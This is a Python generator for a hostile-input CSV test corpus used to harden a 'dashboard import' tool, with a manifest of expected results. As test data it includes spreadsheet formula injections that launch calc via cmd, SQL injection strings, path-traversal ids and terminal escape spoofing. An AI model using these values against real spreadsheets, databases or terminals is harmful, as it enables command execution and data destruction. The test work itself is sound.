#!/usr/bin/env python3
"""Writes the hostile-input corpus: Tests/Corpus/hostile/*.csv and MANIFEST.tsv.

Every file is what a careless, broken or malicious exporter could hand `dashboard import`.
The expectations in MANIFEST.tsv come from SPEC.md and docs/formats.md, not from what the
product happens to do: Tests/EndToEndTests/Hardening/HostileCorpusTests.swift imports each file as a
tasks file (over the baseline of Tests/EndToEndTests/Support/Fixtures.swift: courses `bio`
and `his`, tasks t1-t3) and checks the exit code, the problems, the lines and the data.

Deterministic (python3 standard library only; random bytes come from a fixed seed), so

    python3 Tests/Corpus/make_hostile.py            # rewrite the whole corpus
    python3 Tests/Corpus/make_hostile.py --check    # exit 1 if a checked-in file differs
    python3 Tests/Corpus/make_hostile.py --generate NAME DIR   # write one file into DIR

Big files are runs of one byte, so git stores them in a few kilobytes. The 70 MB file is
not checked in at all: the test generates it with --generate (MANIFEST marks it).

MANIFEST.tsv columns (tab-separated, one line per file, `#` lines are comments):
  file      the file name in hostile/
  exit      the exit code of `dashboard import --format json FILE`
  codes     the problem codes, sorted, comma-separated (`code*N` = N times); the file-level
            code alone when the run fails at file level; `-` for none
  change    `none`, or `+N tasks` / `+N courses` (several joined with ` `) when valid rows
            legitimately import
  lines     `code@line` for every problem (the physical line the JSON `line` names), sorted by
            code, then line number (`code@line*N` = N times), or `-` when there is no problem
  description  one line; starts with `generated at test time:` for a file that is not
            checked in
"""

import os
import random
import sys
import unicodedata

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "hostile")

TASKS = b"task_id,course_id,title\n"
FULL = b"task_id,course_id,title,student_id,due,priority,completed\n"

CASES = []


def case(name, exit_code, codes, change, lines, description, test_time=False):
    """Registers one corpus file; the decorated function returns its bytes."""

    def register(make):
        CASES.append(
            dict(name=name, exit=exit_code, codes=codes, change=change, lines=lines,
                 description=description, make=make, test_time=test_time))
        return make

    return register


def u(text):
    return text.encode("utf-8")


# MARK: - Bytes and encodings


def first_invalid_offset(data):
    """The offset of the first NUL byte or invalid UTF-8 sequence (len(data) if none)."""
    bad = len(data)
    if 0 in data:
        bad = data.index(0)
    try:
        data.decode("utf-8")
    except UnicodeDecodeError as error:
        bad = min(bad, error.start)
    return bad


def first_invalid_line(data):
    """The physical line (CR, LF, CRLF each end one) of the first NUL or invalid UTF-8 byte."""
    bad = first_invalid_offset(data)
    line = 1
    i = 0
    while i < bad:
        if data[i] == 0x0D:
            line += 1
            if i + 1 < bad and data[i + 1] == 0x0A:
                i += 1
        elif data[i] == 0x0A:
            line += 1
        i += 1
    return line


def random_bytes():
    data = random.Random(20261129).randbytes(4096)
    # Not a UTF-16 byte order mark at the start (that is its own case), and a bad byte before
    # the first line end, so the header itself is unreadable.
    assert not data.startswith(b"\xff\xfe") and not data.startswith(b"\xfe\xff")
    ends = [i for i, b in enumerate(data) if b in (0x0A, 0x0D)]
    assert first_invalid_line(data) == 1 and (not ends or first_invalid_offset(data) < ends[0])
    return data


RANDOM_LINE = first_invalid_line(random_bytes())


@case("random-bytes.csv", 65, "invalid_encoding", "none", f"invalid_encoding@{RANDOM_LINE}",
      "4096 random bytes (seed 20261129): binary, not a CSV")
def _():
    return random_bytes()


@case("nul-byte-in-field.csv", 65, "invalid_encoding", "none", "invalid_encoding@3",
      "a NUL byte inside a title on line 3")
def _():
    return TASKS + b"n1,bio,Fine\nn2,bio,Lab\x00report\nn3,bio,Also fine\n"


def utf16_text():
    return "task_id,course_id,title\nw1,bio,Caf\u00e9\n"


@case("utf16le-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-16 LE with its byte order mark (Excel 'Unicode text')")
def _():
    return b"\xff\xfe" + utf16_text().encode("utf-16-le")


@case("utf16be-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-16 BE with its byte order mark")
def _():
    return b"\xfe\xff" + utf16_text().encode("utf-16-be")


@case("utf16le-no-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-16 LE without a byte order mark: NUL bytes from the first character on")
def _():
    return utf16_text().encode("utf-16-le")


@case("utf16be-no-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-16 BE without a byte order mark: the very first byte is NUL")
def _():
    return utf16_text().encode("utf-16-be")


@case("utf8-overlong-slash.csv", 65, "invalid_encoding", "none", "invalid_encoding@2",
      "overlong UTF-8 for '/' (C0 AF) in a title on line 2")
def _():
    return TASKS + b"o1,bio,etc\xc0\xafpasswd\n"


@case("utf8-surrogate.csv", 65, "invalid_encoding", "none", "invalid_encoding@3",
      "a UTF-16 surrogate encoded in UTF-8 (ED A0 80) on line 3")
def _():
    return TASKS + b"s1,bio,Fine\ns2,bio,Half \xed\xa0\x80 pair\n"


@case("utf8-truncated-at-eof.csv", 65, "invalid_encoding", "none", "invalid_encoding@2",
      "the file ends inside a 4-byte UTF-8 sequence (F0 9F 98, no line end)")
def _():
    return TASKS + b"e1,bio,Smile \xf0\x9f\x98"


@case("utf8-truncated-before-newline.csv", 65, "invalid_encoding", "none", "invalid_encoding@2",
      "a 2-byte UTF-8 sequence cut by a line end (C3 then LF)")
def _():
    return TASKS + b"e1,bio,Caf\xc3\ne2,bio,Tea\n"


@case("latin1-without-encoding.csv", 65, "invalid_encoding", "none", "invalid_encoding@4",
      "Latin-1 bytes (E9, E8) on line 4 and no --encoding")
def _():
    return TASKS + b"l1,bio,Plain\nl2,bio,Also plain\nl3,bio,Caf\xe9 cr\xe8me\n"


@case("bom-only.csv", 65, "empty_file", "none", "empty_file@1", "a UTF-8 byte order mark and nothing else")
def _():
    return b"\xef\xbb\xbf"


@case("empty.csv", 65, "empty_file", "none", "empty_file@1", "zero bytes")
def _():
    return b""


@case("blank-lines-only.csv", 65, "empty_file", "none", "empty_file@1",
      "only blank lines (LF, CRLF, CR)")
def _():
    return b"\n\n\r\n\r\n\n"


@case("double-bom.csv", 0, "-", "+1 tasks", "-",
      "two UTF-8 BOMs: the first is dropped, the second (an invisible format character) is ignored in a header name")
def _():
    return b"\xef\xbb\xbf\xef\xbb\xbf" + TASKS + b"b1,bio,Twice\n"


@case("bom-then-valid-file.csv", 0, "-", "+1 tasks", "-",
      "a leading UTF-8 BOM before a valid header (dropped)")
def _():
    return b"\xef\xbb\xbf" + TASKS + b"b1,bio,Behind a BOM\n"


@case("control-characters.csv", 0, "-", "+2 tasks", "-",
      "C0 controls, DEL and an ANSI escape in titles (valid UTF-8: they import)")
def _():
    return TASKS + b"c1,bio,Bell\x07 and DEL\x7f\nc2,bio,\x1b[31mRed\x1b[0m alert\n"


@case("terminal-spoofing.csv", 65, "invalid_date", "+2 tasks", "invalid_date@6",
      "ESC sequences (set the window title, clear the screen), CR, BEL in ids, a title, a student and a bad due, U+202E, U+200B and U+2066 in a title: stored exactly, shown escaped")
def _():
    return FULL + u("\"s1\x1b]0;pwned\x07\",bio,\"Title\x1b[2J\x07 with\u202eevil\u200b\u2066\",s\x071,2026-12-01,high,no\n"
                    "s2,bio,\"Carriage\rreturn\",\"st2\r\x1b[1A\",,low,no\n"
                    "s3,bio,Bad due,st3,\"2026\x1b[2J-12-01\",normal,no\n")


# MARK: - Size


@case("field-10mb-title.csv", 65, "value_too_long", "+1 tasks", "value_too_long@2",
      "a 10 MB title: under the 64 MiB reader limit, over the 4 KiB stored limit -> value_too_long")
def _():
    return TASKS + b"big,bio," + b"A" * 10_000_000 + b"\nok1,bio,Small\n"


@case("field-10mb-ignored-column.csv", 0, "unknown_column", "+1 tasks", "unknown_column@1",
      "a 10 MB quoted value in a column the product ignores: imports")
def _():
    return b"task_id,course_id,title,notes\nbig,bio,Short title,\"" + b"N" * 10_000_000 + b"\"\n"


FIELD_70MB = 70_000_000


@case("field-70mb-quoted.csv", 65, "field_too_large", "none", "field_too_large@2",
      "generated at test time: a 70 MB quoted title (over the 64 MiB field limit) -> field_too_large",
      test_time=True)
def _():
    return TASKS + b"big,bio,\"" + b"Q" * FIELD_70MB + b"\"\nok1,bio,Small\n"


@case("header-100k-columns.csv", 65, "too_many_columns", "none", "too_many_columns@1",
      "a header of 100,000 columns (over the 1,024-column cap) and one full-width row -> too_many_columns")
def _():
    header = b"task_id,course_id,title," + b",".join(b"x%d" % i for i in range(4, 100_001)) + b"\n"
    return header + b"wide,bio,Wide" + b"," * 99_997 + b"\n"


@case("header-1025-columns.csv", 65, "too_many_columns", "none", "too_many_columns@1",
      "a header of 1,025 columns, one over the cap (docs/formats.md) -> too_many_columns")
def _():
    header = b"task_id,course_id,title," + b",".join(b"x%d" % i for i in range(4, 1_026)) + b"\n"
    return header + b"w1,bio,Wide" + b"," * 1_022 + b"\n"


@case("header-1024-columns.csv", 65, "unknown_column,wrong_field_count", "+1 tasks", "unknown_column@1,wrong_field_count@2",
      "a header of 1,024 columns (the cap) imports; a row of 1,025 fields under it is wrong_field_count, not cut to fit")
def _():
    header = b"task_id,course_id,title," + b",".join(b"x%d" % i for i in range(4, 1_025)) + b"\n"
    return header + b"w1,bio,Too wide" + b",v" * 1_022 + b"\nw2,bio,Fits" + b",v" * 1_021 + b"\n"


@case("field-60mb-ignored-column.csv", 0, "unknown_column", "+1 tasks", "unknown_column@1",
      "generated at test time: a 60 MB quoted value in a column the product ignores: imports in bounded memory",
      test_time=True)
def _():
    return b"task_id,course_id,title,notes\nbig,bio,Short title,\"" + b"N" * 60_000_000 + b"\"\n"


@case("row-100k-columns.csv", 65, "wrong_field_count", "+1 tasks", "wrong_field_count@2",
      "a data row of 100,000 fields under a 3-column header")
def _():
    return TASKS + b"r1,bio" + b",x" * 99_998 + b"\nr2,bio,Normal\n"


@case("line-of-million-commas.csv", 0, "blank_row", "+2 tasks", "blank_row@3",
      "a data line of 1,000,000 commas between two good rows: every field empty, so a blank row")
def _():
    return TASKS + b"m1,bio,Before\n" + b"," * 1_000_000 + b"\nm2,bio,After\n"


@case("million-empty-lines.csv", 0, "blank_row", "+1 tasks", "blank_row@3",
      "a valid header and row, then 1,000,000 empty lines: one blank_row warning")
def _():
    return TASKS + b"e1,bio,Only row\n" + b"\n" * 1_000_000


@case("header-1000-unknown-columns.csv", 0, "unknown_column", "+1 tasks", "unknown_column@1",
      "1000 unknown columns after the three required ones (one warning names them all)")
def _():
    header = b"task_id,course_id,title," + b",".join(b"extra %d" % i for i in range(1, 1001)) + b"\n"
    return header + b"k1,bio,Keep me" + b",v" * 1000 + b"\n"


@case("title-4096-bytes.csv", 0, "-", "+1 tasks", "-",
      "a title of exactly 4096 bytes of UTF-8 (2048 x U+00E9): at the limit, imports")
def _():
    return TASKS + b"l4096,bio," + u("\u00e9" * 2048) + b"\n"


@case("title-4097-bytes.csv", 65, "value_too_long", "+1 tasks", "value_too_long@3",
      "a title of 4097 bytes (2048 x U+00E9 + 'a'): one byte over -> value_too_long")
def _():
    return TASKS + b"ok,bio,Short\nl4097,bio," + u("\u00e9" * 2048 + "a") + b"\n"


@case("course-id-300-chars.csv", 65, "unknown_course", "+1 tasks", "unknown_course@3",
      "a 300-character task id (imports) and a 300-character course id (not a known course)")
def _():
    return TASKS + b"T" * 300 + b",bio,Long id\nc300,bio" + b"C" * 297 + b",Long course\n"


# MARK: - Quotes


@case("unterminated-quote-at-eof.csv", 65, "unterminated_quote", "none", "unterminated_quote@3",
      "a quote opened on the last line is never closed")
def _():
    return TASKS + b"u1,bio,Fine\nu2,bio,\"Never closed\n"


@case("unterminated-quote-midfile.csv", 65, "unterminated_quote", "none", "unterminated_quote@3",
      "a quote opened on line 3 of 6, no quote after it")
def _():
    return TASKS + b"u1,bio,Fine\nu2,bio,\"Essay draft\nu3,bio,Quiz\nu4,bio,Test\nu5,bio,Exam\n"


@case("quote-closed-lines-later.csv", 65, "malformed_quote", "+2 tasks", "malformed_quote@3",
      "a quote opened on line 3 is closed on line 5 and followed by text: one malformed record")
def _():
    return TASKS + b"q1,bio,Fine\nq2,bio,\"Essay\nq3,bio,Quiz\nq4,bio,\"Test\" draft\nq5,bio,Fine too\n"


@case("quote-after-delimiter-eof.csv", 65, "unterminated_quote", "none", "unterminated_quote@2",
      "the file ends right after a delimiter and an opening quote")
def _():
    return TASKS + b"q1,bio,\""


@case("stray-quotes.csv", 65, "malformed_quote,malformed_quote,malformed_quote", "+2 tasks",
      "malformed_quote@2,malformed_quote@3,malformed_quote@5",
      "a quote inside an unquoted value, text after a closing quote, backslash-escaped quotes")
def _():
    return (TASKS + b"s1,bio,Say \"hi\" now\ns2,bio,\"Quoted\"tail\ns3,bio,Fine\n"
            + b"s4,bio,\"MySQL \\\"style\\\" escape\"\ns5,bio,Also fine\n")


@case("quoted-header-names.csv", 0, "-", "+2 tasks", "-",
      "every header cell quoted, one with odd case and spaces")
def _():
    return b"\"task_id\",\"Course ID\",\" TITLE \"\n\"h1\",\"bio\",\"Quoted, with comma\"\nh2,his,Plain\n"


@case("header-quoted-line-break.csv", 65, "invalid_priority", "+1 tasks", "invalid_priority@4",
      "a header cell with a quoted CRLF ('task<CRLF>id' is task_id): the header spans lines 1-2")
def _():
    return b"\"task\r\nid\",course_id,title,priority\nh1,bio,Hi,high\nh2,bio,Bad,zzz\n"


@case("many-quoted-line-breaks.csv", 65, "invalid_date", "+1 tasks", "invalid_date@2003",
      "a title with 2000 quoted line breaks (collapsed to spaces, 4003 bytes); the next row's line is 2003")
def _():
    return TASKS[:-1] + b",due\nnl,bio,\"" + b"w\n" * 2000 + b"end\",2026-12-01\nnd,bio,Next,not a date\n"


# MARK: - Line ends and delimiters


@case("line-ends-mixed.csv", 65, "blank_row,blank_row,invalid_priority,invalid_priority", "+4 tasks",
      "blank_row@6,blank_row@8,invalid_priority@4,invalid_priority@9",
      "CRLF, LF, CR, LF-CR and CR-CR-LF line ends mixed (LF-CR and CR-CRLF leave blank lines), last line without one")
def _():
    return (b"task_id,course_id,title,priority\r\n"  # line 1
            b"m1,bio,Crlf,high\n"  # 2
            b"m2,bio,Lf,low\r"  # 3
            b"m3,bio,Cr,zzz\r\n"  # 4 (rejected)
            b"m4,bio,Lf-cr,\n\r"  # 5, then the CR alone ends a blank line 6
            b"m5,bio,Cr-crlf,\r\r\n"  # 7, then the CRLF ends a blank line 8
            b"m6,bio,No line end,zzz")  # 9 (rejected)


@case("cr-only-quoted-cr.csv", 65, "invalid_date", "+2 tasks", "invalid_date@5",
      "old Mac line ends (CR only) and a quoted CR inside a title")
def _():
    return (b"task_id,course_id,title,due\r"
            b"r1,bio,\"line one\rline two\",2026-12-01\r"
            b"r2,bio,Plain,\r"
            b"r3,bio,Bad due,someday\r")


@case("delimiter-changes-midfile.csv", 65, "wrong_field_count,wrong_field_count", "+2 tasks",
      "wrong_field_count@3,wrong_field_count@4",
      "comma header, then semicolon and tab rows, then comma again")
def _():
    return TASKS + b"d1,bio,Comma\nd2;bio;Semicolon\nd3\tbio\tTab\nd4,bio,Comma again\n"


@case("semicolon-file.csv", 0, "-", "+2 tasks", "-",
      "semicolon-delimited (European Excel) with commas inside titles")
def _():
    return b"task_id;course_id;title;due\nsc1;bio;Read 1,2 and 3;2026-12-01\nsc2;his;\"Quoted; semicolon\";\n"


@case("header-trailing-delimiter.csv", 0, "unknown_column", "+2 tasks", "unknown_column@1",
      "every line ends with a delimiter: an unnamed column")
def _():
    return b"task_id,course_id,title,\nt10,bio,Trailing,\nt11,his,Comma,\n"


# MARK: - Headers


@case("header-duplicate-via-alias.csv", 65, "duplicate_column", "none", "duplicate_column@1",
      "due and deadline (an alias of due) in one header")
def _():
    return b"task_id,course_id,title,due,deadline\nd1,bio,Which one,2026-12-01,2026-12-02\n"


@case("tasks-header-courses-like.csv", 65, "missing_column", "none", "missing_column@1",
      "a tasks-named file whose header is course_id,title: no task_id column")
def _():
    return b"course_id,title\nbio,Biology\n"


@case("single-unknown-column.csv", 65, "unknown_file_kind", "none", "unknown_file_kind@1",
      "a header of one unknown column: neither a courses nor a tasks header")
def _():
    return b"notes\nhello\nworld\n"


@case("excel-sep-line.csv", 65, "unknown_file_kind", "none", "unknown_file_kind@1",
      "Excel's 'sep=,' hint line before the real header: line 1 names no column")
def _():
    return b"sep=,\n" + TASKS + b"x1,bio,After sep\n"


@case("header-only.csv", 0, "-", "none", "-", "a header and no data rows")
def _():
    return TASKS


@case("header-then-blank-lines.csv", 0, "blank_row", "none", "blank_row@2",
      "a header, then blank and whitespace-only lines (one warning for the run)")
def _():
    return TASKS + b"\n   \n\t\n,,\n\r\n"


@case("header-repeated-as-row.csv", 0, "repeated_header", "+2 tasks", "repeated_header@3",
      "two exports concatenated: the header comes again as a row, skipped with a warning")
def _():
    return TASKS + b"c1,bio,First export\n" + TASKS + b"c2,his,Second export\n"


@case("header-repeated-bom-crlf-quoted.csv", 0, "blank_row,repeated_header*3", "+4 tasks",
      "blank_row@4,repeated_header@5,repeated_header@7,repeated_header@9",
      "four exports concatenated, CRLF: the header again behind a BOM, behind a BOM quoted with aliases (\"Task ID\";\"Course\"), "
      "upper case with a zero-width space; a blank line before one")
def _():
    header = b"task_id;course_id;title;due\r\n"
    return (b"\xef\xbb\xbf" + header + b"r1;bio;First;2026-12-01\r\nr2;bio;Second;\r\n\r\n"
            + b"\xef\xbb\xbf" + header + b"r3;his;Third;2026-12-02\r\n"
            + b'\xef\xbb\xbf"Task ID";"Course";"Name";"Due Date"\r\n' + b"r4;his;Fourth;\r\n"
            + u("TASK_ID;COURSE\u200b_ID;TITLE;DUE\r\n"))


@case("header-other-layout-midfile.csv", 65, "mismatched_header", "none", "mismatched_header@4",
      "a tasks export, then a courses export joined to it (cat): the courses header on line 4 is mismatched_header, nothing imported")
def _():
    return TASKS + b"m1,bio,First\nm2,bio,Second\ncourse_id,title,code\nbio,Biology,BIO\n"


@case("header-other-order-midfile.csv", 65, "mismatched_header", "none", "mismatched_header@3",
      "two tasks exports with their columns in another order: the rows after line 3 would be read shifted")
def _():
    return b"task_id,course_id,title,due\no1,bio,First,2026-12-01\ncourse_id,task_id,due,title\nhis,o2,2026-12-02,Second\n"


@case("ids-invisible-characters.csv", 65, "invisible_character*5", "+1 tasks",
      "invisible_character@2,invisible_character@3,invisible_character@4,invisible_character@5,invisible_character@6",
      "a BOM, a zero-width space, a bidi isolate, a soft hyphen and a tag character in ids: invisible_character; a ZWJ emoji "
      "title imports")
def _():
    return (b"task_id,course_id,title,student_id,assignment_id\n"
            + u("\ufeffv1,bio,Behind a BOM,s1,a1\n"
                "v2,bio\u200b,Zero-width course,s1,a1\n"
                "v3,bio,Isolated student,s\u20661,a1\n"
                "v4,bio,Soft hyphen,s1,a\u00ad1\n"
                "v5\U000e0041,bio,Tag,s1,a1\n"
                "v6,bio,Lab \U0001f469\u200d\U0001f4bb report,s1,a1\n"))


@case("path-separator-course-ids.csv", 0, "-", "+6 courses", "-",
      "a courses header (has code) in a tasks-named file: course ids ../../etc/passwd, a/b\\c, .., ., /tmp/x, CON")
def _():
    return (b"course_id,title,code\n"
            b"../../etc/passwd,Traversal,TRAV 1\n"
            b"a/b\\c,Slashes,SLASH 2\n"
            b"..,Dot dot,DOTS 3\n"
            b".,Dot,DOT 4\n"
            b"/tmp/x,Absolute,ABS 5\n"
            b"CON,Windows device,CON 6\n")


# MARK: - Values


@case("path-separator-task-ids.csv", 0, "-", "+4 tasks", "-",
      "task and student ids ../../etc/passwd, a/b\\c, /abs and C:\\x: ids are data, they import")
def _():
    return (b"task_id,course_id,title,student_id\n"
            b"../../etc/passwd,bio,Traversal,../s1\n"
            b"a/b\\c,bio,Slashes,s/2\n"
            b"/abs,his,Absolute,/root\n"
            b"C:\\x,his,Drive,..\\..\\s4\n")


@case("formula-titles.csv", 0, "-", "+7 tasks", "-",
      "spreadsheet formulas in titles and ids (=cmd|, +1, -1, @SUM, =HYPERLINK): they import verbatim")
def _():
    return (FULL
            + b"f1,bio,=cmd|' /C calc'!A0,s1,,,\n"
            + b"f2,bio,+1,s1,,,\n"
            + b"f3,bio,-1,s1,,,\n"
            + b"f4,bio,@SUM(1+1)*cmd|' /C calc'!A0,s1,,,\n"
            + b"f5,bio,\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\",s1,,,\n"
            + b"f6,bio, \t=1+2,s1,,,\n"
            + b"=f7,bio,Formula id,@s7,,,\n")


@case("formula-values-rejected.csv", 65, "invalid_priority*6", "+1 tasks",
      "invalid_priority@3,invalid_priority@4,invalid_priority@5,invalid_priority@6,invalid_priority@7,invalid_priority@8",
      "spreadsheet formulas (=1+1, @x, +x, -x, tab =cmd, CR =5) in a rejected column: --rejects writes each with a ' (HardeningCSVOutputTests)")
def _():
    return (FULL
            + b"ok1,bio,Valid,s1,,high,\n"
            + b"r1,bio,One,s1,,=1+1,\n"
            + b"r2,bio,Two,s1,,@x,\n"
            + b"r3,bio,Three,s1,,+x,\n"
            + b"r4,bio,Four,s1,,-x,\n"
            + b"r5,bio,Five,s1,,\"\t=cmd\",\n"
            + b"r6,bio,Six,s1,,\"\r=5\",\n")


@case("sql-looking-values.csv", 0, "-", "+4 tasks", "-",
      "SQL in ids, titles and student ids ('; DROP TABLE tasks; --, Robert'); DELETE FROM courses): stored verbatim")
def _():
    return (b"task_id,course_id,title,student_id\n"
            b"'; DROP TABLE tasks; --,bio,Robert'); DELETE FROM courses; --,s1\n"
            b"q2,bio,\"1\"\" OR \"\"1\"\"=\"\"1\",' OR 1=1 --\n"
            b"q3,his,x'); UPDATE tasks SET title='pwned'; --,s3\n"
            b"q4,his,NULL,\\N\n")


@case("unicode-titles.csv", 65, "missing_value", "+6 tasks", "missing_value@8",
      "emoji, ZWJ, zero-width space, RTL override, decomposed accents, NBSP padding; a NBSP-only title")
def _():
    rows = [
        ("uni1", "bio", "Lab \U0001F469\u200D\U0001F4BB report \U0001F9EA"),
        ("uni2", "bio", "Zero\u200Bwidth\u200Cjoin\u2060word"),
        ("uni3", "bio", "Right\u202Eto left\u202C override"),
        ("uni4", "his", "Cafe\u0301 and re\u0301sume\u0301"),  # decomposed: stored NFC
        ("uni5", "his", "\u1112\u1161\u11AB\u1100\u1173\u11AF"),  # Hangul jamo: NFC composes
        ("\u00A0uni6\u00A0", "his", "\u00A0\u2003Padded\u00A0\u00A0with\u3000spaces\u00A0"),
        ("uni7", "his", "\u00A0\u00A0"),  # nothing but no-break spaces: missing title
    ]
    return TASKS + b"".join(u(",".join(r)) + b"\n" for r in rows)


@case("hostile-dates.csv", 65,
      "implausible_date,implausible_date,implausible_date,implausible_date,invalid_date,invalid_date,"
      "invalid_date,invalid_date,invalid_date,invalid_date",
      "+5 tasks",
      "implausible_date@2,implausible_date@3,implausible_date@4,implausible_date@5,invalid_date@6,invalid_date@7,"
      "invalid_date@8,invalid_date@9,invalid_date@10,invalid_date@11",
      "0000-01-01, 9999-12-31, 1899/2201 years, 2026-02-29, 24:00, +15:00, 13th month, 10:60, 2-digit year; valid edges import")
def _():
    dues = [
        "0000-01-01", "9999-12-31", "1899-12-31", "2201-01-01",  # implausible years
        "2026-02-29", "2026-11-29T24:00", "2026-11-29T10:00+15:00", "2026-13-01", "2026-11-29T10:60",
        "26-11-29",  # invalid
        "2024-02-29", "1900-01-01", "2200-12-31T23:59:59", "2026-11-29T23:59+14:00", "2026-11-29T00:00-14:00",
    ]
    return TASKS[:-1] + b",due\n" + b"".join(u(f"dt{i},bio,Due {i},{d}\n") for i, d in enumerate(dues, 1))


@case("offsets-and-fractions.csv", 65, "invalid_date*5", "+4 tasks",
      "invalid_date@2,invalid_date@3,invalid_date@4,invalid_date@5,invalid_date@6",
      "offsets +14:59, -14:30, +14:01, +1401 and +05:60 refused; +14:00, -14:00, -1400 and a 12-digit fraction of a second import")
def _():
    dues = [
        "2026-11-29T10:00+14:59", "2026-11-29T10:00-14:30", "2026-11-29T10:00+14:01", "2026-11-29T10:00+1401",
        "2026-11-29T10:00+05:60",  # invalid
        "2026-11-29T10:00+14:00", "2026-11-29T10:00-14:00", "2026-11-29T10:00-1400", "2026-11-29T10:00:15.123456789012Z",
    ]
    return TASKS[:-1] + b",due\n" + b"".join(u(f"of{i},bio,Offset {i},{d}\n") for i, d in enumerate(dues, 1))


@case("slashed-and-null-dates.csv", 65, "ambiguous_date,ambiguous_date,invalid_date,invalid_date,invalid_date", "none",
      "ambiguous_date@2,ambiguous_date@3,invalid_date@4,invalid_date@5,invalid_date@6",
      "11/29/2026 and 13/01/2026 without --date-order, and NULL, \\N, N/A as dates")
def _():
    return (TASKS[:-1] + b",due\n"
            b"sd1,bio,Slashed,11/29/2026\nsd2,bio,Day first,13/01/2026\n"
            b"sd3,bio,Null,NULL\nsd4,bio,Backslash N,\\N\nsd5,bio,Not applicable,N/A\n")


@case("priority-huge-integers.csv", 65, "invalid_priority,invalid_priority,invalid_priority,invalid_priority",
      "+2 tasks", "invalid_priority@2,invalid_priority@3,invalid_priority@4,invalid_priority@5",
      "priority 10^40, -1, 1e308 and NaN; HIGH and Urgent import")
def _():
    return (TASKS[:-1] + b",priority\n"
            + b"p1,bio,Huge,1" + b"0" * 40 + b"\n"
            + b"p2,bio,Negative,-1\np3,bio,Float,1e308\np4,bio,NaN,NaN\np5,bio,Caps,HIGH\np6,his,Synonym,Urgent\n")


@case("boolean-symbols.csv", 65, "invalid_boolean,invalid_boolean", "+6 tasks",
      "invalid_boolean@8,invalid_boolean@9",
      "completed as \u2713 \u2714 \u2717 X Done open (import) and \u2718 maybe (rejected)")
def _():
    rows = ["\u2713", "\u2714", "\u2717", "X", "Done", "open", "\u2718", "maybe"]
    return TASKS[:-1] + b",completed\n" + b"".join(u(f"b{i},bio,Check {i},{v}\n") for i, v in enumerate(rows, 1))


@case("duplicate-id-different-content.csv", 65, "duplicate_id", "+2 tasks", "duplicate_id@4",
      "the same task_id twice with different titles: the first row is kept")
def _():
    return TASKS + b"dup,bio,First version\nother,his,Unrelated\ndup,bio,Second version\n"


@case("duplicate-row-exact.csv", 0, "duplicate_row", "+1 tasks", "duplicate_row@3",
      "the same row twice, byte for byte: imported once, a warning")
def _():
    return TASKS + b"same,bio,Exactly the same\nsame,bio,Exactly the same\n"


@case("missing-values-and-unknown-course.csv", 65, "missing_value,missing_value,missing_value,unknown_course",
      "none", "missing_value@2,missing_value@3,missing_value@4,unknown_course@5",
      "empty task_id, empty course_id, a whitespace-only title, and a course that does not exist")
def _():
    return TASKS + b",bio,No id\nmv2,,No course\nmv3,bio,   \nmv4,nosuchcourse,Orphan\n"


@case("short-and-long-rows.csv", 65, "wrong_field_count,wrong_field_count", "+1 tasks",
      "wrong_field_count@2,wrong_field_count@3", "a row with too few fields and one with too many")
def _():
    return TASKS + b"w1,bio\nw2,bio,Title,extra,more\nw3,bio,Just right\n"


# MARK: - Issue 11: UTF-32, and every problem of a row


def utf32_text():
    return "task_id,course_id,title\nw1,bio,Caf\u00e9\n"


@case("utf32le-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-32 LE with its byte order mark (FF FE 00 00): called UTF-32, not UTF-16")
def _():
    return b"\xff\xfe\x00\x00" + utf32_text().encode("utf-32-le")


@case("utf32be-bom.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "UTF-32 BE with its byte order mark (00 00 FE FF): called UTF-32, not a NUL byte")
def _():
    return b"\x00\x00\xfe\xff" + utf32_text().encode("utf-32-be")


@case("only-zero-bytes.csv", 65, "invalid_encoding", "none", "invalid_encoding@1",
      "2 MiB of NUL bytes and no line end (import - < /dev/zero as a file): refused on the first chunk")
def _():
    return b"\x00" * (2 << 20)


@case("row-with-every-problem.csv", 65,
      "invalid_boolean,invalid_date*2,invalid_priority,missing_value*2,unknown_course*2,value_too_long",
      "+1 tasks",
      "invalid_boolean@3,invalid_date@3,invalid_date@5,invalid_priority@3,missing_value@4,missing_value@6,"
      "unknown_course@3,unknown_course@4,value_too_long@5",
      "rows with several problems each (bad due, priority, completed and an unknown course; no title and an "
      "unknown course; a 5000-byte title and a bad due): every problem of a row is reported, the row rejected once")
def _():
    return (FULL
            + b"p1,bio,Fine,s1,2026-12-01,high,no\n"
            + b"p2,nope,Everything wrong,s2,2026-13-45,urgentish,maybe\n"
            + b"p3,ghost,,s3,,,\n"
            + b"p4,bio," + b"a" * 5000 + b",s4,yesterday,,\n"
            + b",his,No id,s5,2026-12-01,low,\n")


# MARK: - Writing


def manifest():
    lines = ["# file\texit\tcodes\tchange\tlines\tdescription (see make_hostile.py)"]
    for c in sorted(CASES, key=lambda c: c["name"]):
        description = c["description"]
        assert "\t" not in description and "\n" not in description
        lines.append("\t".join([c["name"], str(c["exit"]), c["codes"], c["change"], c["lines"], description]))
    return ("\n".join(lines) + "\n").encode("utf-8")


def outputs():
    """(name, bytes) of every checked-in file."""
    for c in sorted(CASES, key=lambda c: c["name"]):
        if not c["test_time"]:
            yield c["name"], c["make"]()
    yield "MANIFEST.tsv", manifest()


def main(argv):
    if len(argv) == 4 and argv[1] == "--generate":
        match = [c for c in CASES if c["name"] == argv[2]]
        if not match:
            sys.exit(f"make_hostile.py: no case named {argv[2]}")
        with open(os.path.join(argv[3], argv[2]), "wb") as f:
            f.write(match[0]["make"]())
        return
    check = argv[1:] == ["--check"]
    if argv[1:] and not check:
        sys.exit(__doc__)
    names = [c["name"] for c in CASES]
    assert len(names) == len(set(names)), "two cases share a name"
    os.makedirs(OUT, exist_ok=True)
    differ = []
    expected = set()
    for name, data in outputs():
        expected.add(name)
        path = os.path.join(OUT, name)
        old = open(path, "rb").read() if os.path.exists(path) else None
        if old != data:
            differ.append(name)
            if not check:
                with open(path, "wb") as f:
                    f.write(data)
    extra = sorted(set(os.listdir(OUT)) - expected)
    for name in extra:
        differ.append(name + " (not generated)")
        if not check:
            os.remove(os.path.join(OUT, name))
    if check and differ:
        sys.exit("make_hostile.py --check: differs: " + ", ".join(differ))
